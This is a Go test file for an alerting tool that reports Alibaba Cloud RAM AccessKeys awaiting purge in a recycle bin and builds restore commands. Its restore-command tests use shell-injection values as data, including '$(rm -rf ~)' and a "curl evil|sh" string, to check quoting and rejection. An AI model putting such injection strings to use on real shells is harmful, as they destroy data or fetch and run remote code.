package notify

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/akrecycle/ak-recycle-alert/alert"
	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite golden files")

// Fixtures shared by every channel's tests (helper E: use these, do not redefine them).

// sampleTime is the fire time of the sample reports: 09:00 UTC, 17:00 in Asia/Shanghai.
var sampleTime = time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)

func hours(h int) *int { return &h }

func shanghai(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Fatalf("LoadLocation: %v", err)
	}
	return loc
}

// sampleReport is a typical crossing run, second attempt (RetryCount 1), shown in Asia/Shanghai: a
// recycled key, an expiring key in a full bin, a key past its DeleteDate, two unreadable users of
// one code and one of another, and a warning.
func sampleReport(t testing.TB) *alert.Report {
	t.Helper()
	now := sampleTime.Add(3 * time.Second)
	mk := func(id, ev, user, uid, ak string, recycled, purge time.Time, th *int, full bool) alert.Alert {
		return alert.Alert{ID: id, Event: alert.Event(ev), UserName: user, UserID: uid, AccessKeyID: ak,
			CreateDate: time.Date(2026, 1, 11, 9, 12, 0, 0, time.UTC), RecycleDate: recycled, DeleteDate: purge,
			ThresholdHours: th, RemainingSeconds: int64(purge.Sub(now) / time.Second), BinFull: full}
	}
	return &alert.Report{
		Findings: alert.Findings{
			Mode:         alert.ModeCrossing,
			AccountID:    "1234567890123456",
			AccountLabel: "prod",
			Window:       alert.Window{From: sampleTime.Add(-24 * time.Hour), To: sampleTime},
			Next:         sampleTime.Add(24 * time.Hour),
			Alerts: []alert.Alert{
				mk("alrt_00000000000000000000000000000001", "recycled", "carol", "20732900249392cc", "LTAI5tCarolRecycled0001",
					sampleTime.Add(-3*time.Hour), sampleTime.Add(30*24*time.Hour-3*time.Hour), nil, false),
				mk("alrt_00000000000000000000000000000002", "expiring", "alice", "20732900249392aa", "LTAI5tAliceExpiring0002",
					time.Date(2026, 11, 4, 8, 12, 0, 0, time.UTC), time.Date(2026, 12, 4, 8, 12, 0, 0, time.UTC), hours(72), true),
				mk("alrt_00000000000000000000000000000003", "expiring", "dave", "20732900249392dd", "LTAI5tDavePastDelete0003",
					time.Date(2026, 10, 31, 8, 0, 0, 0, time.UTC), time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC), hours(0), false),
			},
			Errors: []alert.UserError{
				{User: "bob", Code: "EntityNotExist.User", Message: "The user does not exist."},
				{User: "eve", Code: "NoPermission", Message: "You are not authorized to do this action."},
				{User: "frank", Code: "NoPermission", Message: "You are not authorized to do this action."},
			},
			Warnings:     []string{"the trigger fired 7m0s after its SCHEDULE time 2026-11-30T09:00:00Z: SCHEDULE may not describe the trigger"},
			UsersChecked: 4,
		},
		Now:        now,
		RetryCount: 1,
		RequestID:  "1-6759a3c2-4f8e2b1a9d0c",
		Location:   shanghai(t),
	}
}

// digestReport is a digest heartbeat: every bin of 12 users is empty.
func digestReport(t testing.TB) *alert.Report {
	t.Helper()
	return &alert.Report{
		Findings: alert.Findings{
			Mode:         alert.ModeDigest,
			AccountID:    "1234567890123456",
			Window:       alert.Window{From: sampleTime.Add(-7 * 24 * time.Hour), To: sampleTime},
			Next:         sampleTime.Add(7 * 24 * time.Hour),
			Alerts:       []alert.Alert{},
			UsersChecked: 12,
		},
		Now:       sampleTime,
		RequestID: "1-digest",
		Location:  time.UTC,
	}
}

// manyReport is a crossing run with n expiring keys of n/3+1 users, given most urgent first.
func manyReport(t testing.TB, n int) *alert.Report {
	t.Helper()
	r := sampleReport(t)
	r.Alerts = nil
	r.Errors = nil
	r.Warnings = nil
	r.RetryCount = 0
	for i := range n {
		purge := sampleTime.Add(time.Duration(24+i) * time.Hour)
		r.Alerts = append(r.Alerts, alert.Alert{
			ID: fmt.Sprintf("alrt_%032x", i+1), Event: alert.Expiring,
			UserName: fmt.Sprintf("user%03d", i/3), UserID: fmt.Sprintf("2073290024939%03d", i/3),
			AccessKeyID: fmt.Sprintf("LTAI5tManyKeys%08d", i+1),
			CreateDate:  sampleTime.Add(-365 * 24 * time.Hour), RecycleDate: purge.Add(-30 * 24 * time.Hour),
			DeleteDate: purge, ThresholdHours: hours(72), RemainingSeconds: int64(purge.Sub(r.Now) / time.Second),
			BinFull: true,
		})
	}
	r.UsersChecked = n/3 + 1
	return r
}

// golden compares got with testdata/name, rewriting it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", name, diff)
	}
}

func TestNewMessage(t *testing.T) {
	m := NewMessage(sampleReport(t))
	var order []string
	for _, k := range m.Keys {
		order = append(order, k.Alert.AccessKeyID)
	}
	wantOrder := []string{"LTAI5tDavePastDelete0003", "LTAI5tAliceExpiring0002", "LTAI5tCarolRecycled0001"}
	if diff := cmp.Diff(wantOrder, order); diff != "" {
		t.Errorf("NewMessage keys order (-want +got):\n%s", diff)
	}
	tests := []struct {
		name, got, want string
	}{
		{"headline", m.Headline, "3 RAM AccessKeys in the recycle bin need attention"},
		{"repeat", m.Repeat, "repeat 2 of the 17:00 check"},
		{"account", m.Account, "prod (1234567890123456)"},
		{"next", m.Next, "2026-12-01 17:00 CST"},
		{"past left", m.Keys[0].Left, "past DeleteDate, may already be gone"},
		{"left", m.Keys[1].Left, "in 3d 23h"},
		{"purged", m.Keys[1].Purged, "2026-12-04 16:12 CST"},
		{"event", m.Keys[1].Event, "expiring (3d threshold)"},
		{"event 0", m.Keys[0].Event, "expiring (purged before the next check)"},
		{"restore", m.Keys[1].Restore, "aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002"},
		{"errors", m.ErrorGroups[0].Text(), "NoPermission, 2 users: eve, frank (You are not authorized to do this action.)"},
		{"digest", NewMessage(digestReport(t)).Headline, "Digest: no AccessKey in the recycle bin of 12 users"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("%s = %q, want %q", tt.name, tt.got, tt.want)
		}
	}
}

func TestHeadline(t *testing.T) {
	tests := []struct {
		name string
		r    func() *alert.Report
		want string
	}{
		{"one", func() *alert.Report { r := sampleReport(t); r.Alerts = r.Alerts[:1]; return r },
			"1 RAM AccessKey in the recycle bin needs attention"},
		{"errors only", func() *alert.Report { r := sampleReport(t); r.Alerts = nil; return r },
			"RAM AccessKey recycle bin: 3 users could not be read"},
		{"quiet", func() *alert.Report { r := sampleReport(t); r.Alerts, r.Errors = nil, nil; return r },
			"No RAM AccessKey in the recycle bin needs attention"},
		{"digest keys", func() *alert.Report { r := sampleReport(t); r.Mode = alert.ModeDigest; return r },
			"Digest: 3 RAM AccessKeys in the recycle bin of 4 users"},
	}
	for _, tt := range tests {
		if got := NewMessage(tt.r()).Headline; got != tt.want {
			t.Errorf("%s: Headline = %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestTimeLeft(t *testing.T) {
	tests := []struct {
		sec  int64
		want string
	}{
		{-5, "past DeleteDate, may already be gone"},
		{0, "past DeleteDate, may already be gone"},
		{30, "in under a minute"},
		{42 * 60, "in 42m"},
		{5*3600 + 12*60, "in 5h 12m"},
		{2*86400 + 4*3600 + 59*60, "in 2d 4h"},
	}
	for _, tt := range tests {
		if got := timeLeft(tt.sec); got != tt.want {
			t.Errorf("timeLeft(%d) = %q, want %q", tt.sec, got, tt.want)
		}
	}
}

func TestSplit(t *testing.T) {
	tests := []struct {
		name      string
		keys      int
		perPart   int
		wantParts int
		wantRest  int
	}{
		{"no keys", 0, 10, 1, 0},
		{"one part", 5, 10, 1, 0},
		{"exact", 20, 10, 2, 0},
		{"150 keys", 150, 30, 4, 50},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := NewMessage(manyReport(t, tt.keys))
			parts := m.SplitKeys(tt.perPart, nil)
			if len(parts) != tt.wantParts {
				t.Fatalf("len(Split) = %d, want %d", len(parts), tt.wantParts)
			}
			if m.Rest != tt.wantRest {
				t.Errorf("Rest = %d, want %d", m.Rest, tt.wantRest)
			}
			var got []string
			for i, p := range parts {
				if p.Index != i+1 || p.Total != len(parts) || p.Summary != (i == 0) || p.Rest != (i == len(parts)-1) {
					t.Errorf("part %d = {Index %d Total %d Summary %v Rest %v}", i, p.Index, p.Total, p.Summary, p.Rest)
				}
				if len(parts) > 1 && !strings.Contains(p.Context(), fmt.Sprintf("part %d/%d", i+1, len(parts))) ||
					!strings.Contains(p.Context(), "1234567890123456") {
					t.Errorf("part %d Context = %q, want the account and its number", i, p.Context())
				}
				for _, k := range p.Keys {
					got = append(got, k.Alert.AccessKeyID)
				}
			}
			var want []string
			for _, k := range m.Keys {
				want = append(want, k.Alert.AccessKeyID)
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("keys across parts (-want +got):\n%s", diff)
			}
			if tt.wantRest > 0 && !strings.Contains(parts[len(parts)-1].Plain(), "50 more alerted AccessKeys") {
				t.Errorf("last part lacks the rest line:\n%s", parts[len(parts)-1].Plain())
			}
		})
	}
}

func TestSplitBytes(t *testing.T) {
	m := NewMessage(manyReport(t, 150))
	const limit = 4096
	parts := m.Split(func(p Part) bool { return len(p.Markdown("\n")) <= limit })
	n := 0
	for _, p := range parts {
		if got := len(p.Markdown("\n")); got > limit {
			t.Errorf("part %s is %d bytes, want <= %d", p.Label(), got, limit)
		}
		n += len(p.Keys)
	}
	if n != MaxListedKeys {
		t.Errorf("keys in parts = %d, want %d", n, MaxListedKeys)
	}
}

func TestMarkdownGolden(t *testing.T) {
	m := NewMessage(sampleReport(t))
	parts := m.Split(func(Part) bool { return true })
	golden(t, "sample.md.golden", []byte(parts[0].Markdown("\n")+"\n"))
	if got := parts[0].Plain(); !strings.Contains(got, "AccessKey") || strings.Contains(got, "**") {
		t.Errorf("Plain() = %q, want AccessKey and no markup", got)
	}
}

func TestPartTitle(t *testing.T) {
	r := sampleReport(t)
	r.DryRun = true
	m := NewMessage(r)
	p := Part{Message: m, Index: 2, Total: 4}
	want := "[DRY RUN] 3 RAM AccessKeys in the recycle bin need attention (repeat 2 of the 17:00 check, part 2/4)"
	if got := p.Title(); got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
	r.RetryCount = 0
	r.DryRun = false
	if got, want := (Part{Message: NewMessage(r), Index: 1, Total: 1}).Title(), "3 RAM AccessKeys in the recycle bin need attention"; got != want {
		t.Errorf("Title() = %q, want %q", got, want)
	}
}

func BenchmarkRenderSlack150(b *testing.B) {
	r := manyReport(b, 150)
	for b.Loop() {
		if _, err := renderSlack(r, ""); err != nil {
			b.Fatal(err)
		}
	}
}

func TestRestoreCommand(t *testing.T) {
	tests := []struct {
		name, userID, accessKeyID string
		want                      string
		wantOK                    bool
	}{
		{"ordinary", "20732900249392aa", "LTAI5tAliceExpiring0002",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002", true},
		{"substitution quoted", "$(rm -rf ~)", "LTAI5t",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId '$(rm -rf ~)' --UserAccessKeyId LTAI5t", true},
		{"markup quoted", "123", "<!channel>*x*",
			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 123 --UserAccessKeyId '<!channel>*x*'", true},
		{"single quote", "123", "'; curl evil|sh #", "", false},
		{"backtick", "123", "LTAI`id`", "", false},
		{"line break", "123\n", "LTAI5t", "", false},
		{"non-ASCII", "123", "LTAI\u202e5t", "", false},
		{"empty", "", "LTAI5t", "", false},
	}
	for _, tt := range tests {
		got, ok := RestoreCommand(tt.userID, tt.accessKeyID)
		if got != tt.want || ok != tt.wantOK {
			t.Errorf("%s: RestoreCommand(%q, %q) = %q, %v; want %q, %v", tt.name, tt.userID, tt.accessKeyID, got, ok, tt.want, tt.wantOK)
		}
	}
}

// FuzzRestoreCommand: a command is given exactly when the IDs allow one, and a POSIX shell splits it
// into exactly the intended words; in a Slack code span it shows exactly that command.
func FuzzRestoreCommand(f *testing.F) {
	for i, s := range hostileSeeds {
		f.Add(s, hostileSeeds[(i+7)%len(hostileSeeds)])
	}
	f.Fuzz(func(t *testing.T, userID, accessKeyID string) {
		cmd, ok := RestoreCommand(userID, accessKeyID)
		want, wantOK := restoreArgv(alert.Alert{UserID: userID, AccessKeyID: accessKeyID})
		if ok != wantOK {
			t.Fatalf("RestoreCommand(%q, %q) ok = %v, want %v", userID, accessKeyID, ok, wantOK)
		}
		if !ok {
			if cmd != "" {
				t.Fatalf("RestoreCommand(%q, %q) = %q with ok false", userID, accessKeyID, cmd)
			}
			return
		}
		got, err := shellWords(cmd)
		if err != nil || !cmp.Equal(got, want) {
			t.Fatalf("RestoreCommand(%q, %q) = %q, which splits into %q, %v; want %q", userID, accessKeyID, cmd, got, err, want)
		}
		if span := slackCode(cmd); span != "`"+slackEntities.Replace(cmd)+"`" {
			t.Fatalf("slackCode(%q) = %q, want the command in a code span", cmd, span)
		}
	})
}
